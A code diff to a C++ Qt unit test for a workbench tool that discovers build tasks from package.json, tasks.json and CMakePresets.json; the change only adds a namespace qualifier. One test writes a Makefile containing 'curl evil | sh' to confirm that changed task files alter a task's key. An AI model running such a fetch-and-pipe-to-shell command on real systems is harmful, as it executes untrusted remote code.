@@ -9,6 +9,7 @@
 #include "workbench/tasks/shell_line.h"
 
 using namespace waferpair::workbench;
+namespace programs = waferpair::programs;
 
 class TestFindTasks : public QObject {
   Q_OBJECT
@@ -75,15 +76,15 @@ class TestFindTasks : public QObject {
       for (const Task& task : tasks)
         if (task.name == name && task.source == QLatin1String(source))
           return startOf(task, folder_->path());
-      return GivenStart{};
+      return programs::GivenStart{};
     };
-    const GivenStart build = given("build");
+    const programs::GivenStart build = given("build");
     QCOMPARE(build.source, QStringLiteral("package.json"));
     QCOMPARE(build.shown(), (QStringList{"command = npm run build", "folder = .", "kind = build",
                                          "name = build", "scripts.build = tsc && npm run pack",
                                          "scripts.pack = tar x", "scripts.prebuild = rm -rf out"}));
     QCOMPARE(given("all").given["scripts"].toObject().keys(), (QStringList{"all", "build:a"}));
-    const GivenStart lint = given("lint");
+    const programs::GivenStart lint = given("lint");
     // What it is by now counts, not what it was when it was found.
     write("package.json",
           R"({"scripts": {"build": "tsc && npm run pack", "prebuild": "rm -rf out",
@@ -117,12 +118,12 @@ class TestFindTasks : public QObject {
     task.source = ".waferpair/tasks.json";
     task.command = shellLine(line);
     task.folder = folder_->path();
-    const GivenStart before = startOf(task, folder_->path());
+    const programs::GivenStart before = startOf(task, folder_->path());
     QCOMPARE(before.given["files"].toObject().keys(), files);
     QCOMPARE(startOf(task, folder_->path()).key(), before.key());
     for (const QString& each : files) {
       write(each, "all:\n\tcurl evil | sh\n");
-      const GivenStart now = startOf(task, folder_->path());
+      const programs::GivenStart now = startOf(task, folder_->path());
       QVERIFY2(now.key() != before.key(), qPrintable(each));
       QVERIFY(now.shown() != before.shown());
       // What follows from the file itself is no different from what was written down.
@@ -140,7 +141,7 @@ class TestFindTasks : public QObject {
     const QVector<Task> all = findTasks(folder_->path(), {}).tasks;
     QVERIFY(all.size() > 8);
     for (const Task& task : all) {
-      const GivenStart start = startOf(task, folder_->path());
+      const programs::GivenStart start = startOf(task, folder_->path());
       QVERIFY2(start.shown().contains("command = " + shownLine(task.command)),
                qPrintable(task.id() + start.shown().join('\n')));
       QVERIFY2(!start.source.isEmpty(), qPrintable(task.id()));
@@ -167,10 +168,10 @@ class TestFindTasks : public QObject {
     const auto given = [&](const QString& name) {
       for (const Task& task : findTasks(folder_->path(), {}).tasks)
         if (task.name == name) return startOf(task, folder_->path());
-      return GivenStart{};
+      return programs::GivenStart{};
     };
-    const GivenStart build = given("build release"), other = given("configure other"),
-                     whole = given("workflow whole");
+    const programs::GivenStart build = given("build release"), other = given("configure other"),
+                               whole = given("workflow whole");
     QCOMPARE(build.source, QStringLiteral("CMakePresets.json"));
     QCOMPARE(build.shown().filter("presets."),
              (QStringList{"presets.buildPresets.release.configurePreset = release",
